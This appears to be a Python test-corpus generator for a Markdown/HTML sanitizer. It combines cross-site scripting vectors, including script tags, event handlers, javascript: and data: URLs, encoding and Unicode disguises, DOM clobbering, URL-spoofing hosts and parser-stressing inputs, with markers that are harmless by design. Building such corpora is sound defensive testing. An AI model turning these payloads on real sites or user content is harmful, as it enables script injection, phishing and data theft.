"""A corpus of hostile Markdown and HTML: each known technique, combined with the ways to write it differently.

The techniques are those of the public lists on cross-site scripting and on Markdown renderers; the entries are made
here. Every script in them would leave a mark, ``window.ran``, and every request would go to a host below ``.invalid``.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from itertools import product

RUN = "window.ran=1"
HOST = "hostile.invalid"

ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<script src=https://{HOST}/a.js></script>",
    f'<script type=module>import "https://{HOST}/b.mjs"</script>',
    f"<img src=https://{HOST}/a.png onerror={RUN}>",
    f'<img srcset="https://{HOST}/a.png 1x, https://{HOST}/b.png 2x">',
    f"<picture><source srcset=https://{HOST}/c.png><img></picture>",
    f"<svg onload={RUN}><script>{RUN}</script><use href=https://{HOST}/d.svg#x /></svg>",
    f'<svg><animate attributeName=href values="javascript:{RUN}" /><a><text>x</text></a></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<iframe src=https://{HOST}/e></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data=https://{HOST}/f></object>",
    f"<embed src=https://{HOST}/g>",
    f"<form action=https://{HOST}/h><input name=key autofocus onfocus={RUN}><button>Send</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<style>@import 'https://{HOST}/i.css'; body {{ background: url(https://{HOST}/j.png) }}</style>",
    f'<p style="background:url(https://{HOST}/k.png);position:fixed;inset:0">x</p>',
    f"<meta http-equiv=refresh content='0;url=https://{HOST}/l'>",
    f"<base href=https://{HOST}/>",
    f"<link rel=stylesheet href=https://{HOST}/m.css>",
    f"<link rel=prefetch href=https://{HOST}/n>",
    f"<video poster=https://{HOST}/o.png><source src=https://{HOST}/p onerror={RUN}></video>",
    f"<audio src=https://{HOST}/q autoplay onerror={RUN}></audio>",
    f"<body onload={RUN} background=https://{HOST}/r.png>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<dialog open onclose={RUN}>x</dialog>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<textarea></textarea><img src=x onerror={RUN}>",
    f"<title></title><img src=x onerror={RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href=https://{HOST}/s ping=https://{HOST}/t target=_self>x</a>",
    f"<area href=javascript:{RUN}><map name=m></map>",
    f"<x-y contenteditable autofocus onfocus={RUN} tabindex=0>x</x-y>",
    "<a id=composer name=scroller></a><form id=message name=body><input id=firstChild name=children></form>",
    "<img name=getElementById><img id=recorder><a id=log href=x></a><div id=link-line></div>",
    '<button data-action="delete" data-id="x">x</button><span data-tail data-pending="0">x</span>',
    '<py-script>import js; js.window.ran = 1</py-script><script type="py">import js; js.window.ran = 1</script>',
)

# What a parser that looks for tags may not see through.
DISGUISES = (
    lambda html: html.upper().replace("WINDOW.RAN", "window.ran"),
    lambda html: html.replace("<", "<\0", 1),
    lambda html: html.replace(" ", "/"),
    lambda html: html.replace(" ", "\f"),
    lambda html: html.replace("=", "\t=\n", 1),
    lambda html: html.replace("<", "&lt;", 1),
    lambda html: html.replace("<", "&#x3c;").replace(">", "&#62;"),
    lambda html: html.replace("<", "&lt", 1),
    lambda html: f"<<{html}>",
    lambda html: html.replace(">", "", 1),
    lambda html: html[: len(html) // 2],
    lambda html: f"<!--><{html}-->",
    lambda html: f"<![CDATA[{html}]]>",
    lambda html: f"<?x {html} ?>",
    lambda html: html.replace("<", "\\<", 1),
    lambda html: html.replace("<", "＜").replace(">", "＞"),
    lambda html: html.replace("script", "scr\N{ZERO WIDTH SPACE}ipt").replace("on", "o\N{SOFT HYPHEN}n"),
    lambda html: f"\N{RIGHT-TO-LEFT OVERRIDE}{html}",
)

# Where Markdown lets text stand.
PLACES = (
    "{}",
    "**{}** _{}_",
    "# {}",
    "> {}",
    "> - 1. {}",
    "- [x] {}",
    "| {} | x |\n|---|---|\n| x | {} |",
    "`{}",
    "``` {}\nx\n```",
    '~~~js" onload="{}\nx\n~~~',
    "    {}",
    "[{}](https://a.example)",
    "[x](https://a.example '{}')",
    "![{}](https://a.example)",
    '![x](https://a.example "{}")',
    "[{0}]: https://a.example '{0}'\n\n[{0}]",
    "[^1]\n\n[^1]: {}",
    "a\n{}\n===",
    "~~{}~~",
    "$$\n{}\n$$",
)

HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "onpointerenter", "ontoggle")
QUOTES = ('"', "'", "&quot;", "&#34;", "&#x27;", "`", '\\"', "%22")

URLS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;&#97;&#118;ascript:{RUN}",
    f"&#x6A;avascript:{RUN}",
    f"java%0ascript:{RUN}",
    f"java&Tab;script:{RUN}",
    f"java&NewLine;script:{RUN}",
    f"\x01javascript:{RUN}",
    f"\N{NO-BREAK SPACE}javascript:{RUN}",
    f"javascript://a.example/%0a{RUN}",
    f"javascript\\:{RUN}",
    f"java\\script:{RUN}",
    f"feed:javascript:{RUN}",
    f"view-source:javascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    f"data:image/svg+xml,<svg onload={RUN}>",
    "blob:https://a.example/0",
    "file:///etc/passwd",
    "filesystem:https://a.example/t",
    "about:blank",
    "ws://hostile.invalid",
    "intent://hostile.invalid#Intent;end",
    "//hostile.invalid/x",
    "/\\hostile.invalid/x",
    "\\\\hostile.invalid\\x",
    "https:hostile.invalid",
    "https:///hostile.invalid",
    "http://[hostile",
    "https://bank.example%2F@hostile.invalid/",
    "https://bank.example\\@hostile.invalid/",
    "https://b%61nk.example/",
    "https://bank.example%00.hostile.invalid/",
    "https://\N{CYRILLIC SMALL LETTER A}pple.example/",
    "https://bank.example\N{FULLWIDTH SOLIDUS}.hostile.invalid/",
    f'https://a.example/"onmouseover="{RUN}',
    f"https://a.example/'onmouseover='{RUN}",
    f"https://a.example/><script>{RUN}</script>",
    f'mailto:a@b.example"onclick="{RUN}',
    "../settings",
    "#message",
    "?stop",
)

LINKS = (
    "[x]({})",
    "[x](<{}>)",
    "<{}>",
    "[x]: {}\n\n[x]",
    "![x]({})",
    "[![x]({0})]({0})",
    "[x]({} '\"onclick=\"1')",
    "{}",
)

STRANGE = (
    "[a](b[c](https://d.example)" + "[" * 40 + "]" * 40,
    "> " * 60 + f"<img src=x onerror={RUN}>",
    "- " * 60 + f"<img src=x onerror={RUN}>",
    "*" * 200 + f"<script>{RUN}</script>" + "_" * 200,
    "`" * 31 + f"</code></pre><script>{RUN}</script>",
    "&" * 100 + "#x" * 20 + ";" + "&#0;&#xD800;&#x110000;&#x80;",
    "__proto__ constructor [__proto__] [constructor]: https://a.example [toString][__proto__]",
    "[__proto__]: https://a.example\n\n[__proto__] [x][constructor] [hasOwnProperty]",
    "{{constructor.constructor('window.ran=1')()}} ${window.ran=1} <%= window.ran=1 %> #{window.ran=1}",
    "\N{RIGHT-TO-LEFT OVERRIDE}exe.png [x](https://a.example/\N{RIGHT-TO-LEFT OVERRIDE}gpj)\N{RIGHT-TO-LEFT ISOLATE}",
    "a" + "\N{COMBINING ACUTE ACCENT}" * 500,
    "\ufeff\ufffe\uffff\x85\u2028<script>\u2029" + f"{RUN}</script>",
    f"$\\href{{javascript:{RUN}}}{{x}}$ $\\includegraphics{{https://{HOST}/u.png}}$ $\\htmlId{{log}}{{x}}$",
    f"$$\n\\def\\a{{\\a\\a}}\\a \\html@mathml{{}}{{}} \\url{{javascript:{RUN}}}\n$$",
)


def entries() -> Iterator[str]:
    """Yield the corpus, the same each time: every technique at least once, the combinations by a fixed choice."""
    choice = random.Random(4)  # noqa: S311 - not for secrets
    yield from ELEMENTS
    for disguise in DISGUISES:
        yield from (disguise(html) for html in choice.sample(ELEMENTS, 4))
    for place in PLACES:
        yield from (place.format(html.replace("\n", " "), html) for html in choice.sample(ELEMENTS, 4))
    for handler, quote in product(HANDLERS, QUOTES):
        yield choice.choice(
            (
                f"![{quote} {handler}={quote}{RUN}](https://a.example/{quote}{handler}={quote}{RUN})",
                f"[x](https://a.example/{quote}{handler}={RUN})",
                f"[x](https://a.example '{quote} {handler}={quote}{RUN}')",
                f"```x{quote}{handler}={quote}{RUN}\nx\n```",
                f"<https://a.example/{quote}{handler}={RUN}>",
            )
        )
    for number, url in enumerate(URLS):
        yield from (link.format(url) for link in (LINKS[number % len(LINKS)], *choice.sample(LINKS, 2)))
    yield from STRANGE


def documents(count: int) -> list[str]:
    """Put the corpus into ``count`` replies; between two entries whatever one left open is closed."""
    texts = list(entries())
    return ["\n\n".join(f"{text}\n\nEntry {n}." for n, text in enumerate(texts[at::count])) for at in range(count)]
